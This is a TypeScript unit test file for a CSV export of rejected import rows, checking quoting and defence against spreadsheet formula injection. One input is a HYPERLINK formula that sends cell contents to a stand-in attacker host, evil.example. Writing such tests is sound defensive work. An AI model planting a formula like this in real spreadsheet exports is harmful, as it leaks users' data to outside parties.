import type { RejectedRow } from '@affilux/contract';
import { describe, expect, it } from 'vitest';
import { rejectedRowsCsv } from './RejectedRows';

const refused = (row: number, source: string | null, reason = 'source inconnue'): RejectedRow => ({ row, source, stat_date: '2026-11-17', reason });

describe('the download of refused rows', () => {
  it('lists row, source, stat_date and reason under a header, quoting only cells that need it', () => {
    const csv = rejectedRowsCsv([refused(2, '00042'), { row: 3, source: null, stat_date: null, reason: 'data n\'est pas du JSON: "x", ligne 3' }]);
    expect(csv.split('\n')).toEqual([
      'row,source,stat_date,reason',
      '2,00042,2026-11-17,source inconnue',
      '3,,,"data n\'est pas du JSON: ""x"", ligne 3"',
    ]);
  });

  it("never hands a spreadsheet a formula: a cell starting with = + - @, tab or carriage return gets a leading '", () => {
    const csv = rejectedRowsCsv([
      refused(2, '=HYPERLINK("http://evil.example/?"&A1,"ouvrir")'),
      refused(3, '@SUM(1+1)'),
      refused(4, '+33 1 23'),
      refused(5, '-2+3', '=1+1'),
      refused(6, '\t=1+1'),
      refused(7, '\r=1+1'),
    ]);
    expect(csv.split('\n').slice(1, 6)).toEqual([
      `2,"'=HYPERLINK(""http://evil.example/?""&A1,""ouvrir"")",2026-11-17,source inconnue`,
      "3,'@SUM(1+1),2026-11-17,source inconnue",
      "4,'+33 1 23,2026-11-17,source inconnue",
      "5,'-2+3,2026-11-17,'=1+1",
      "6,'\t=1+1,2026-11-17,source inconnue",
    ]);
    expect(csv.split('\n')[6]).toBe(`7,"'\r=1+1",2026-11-17,source inconnue`);
  });
});
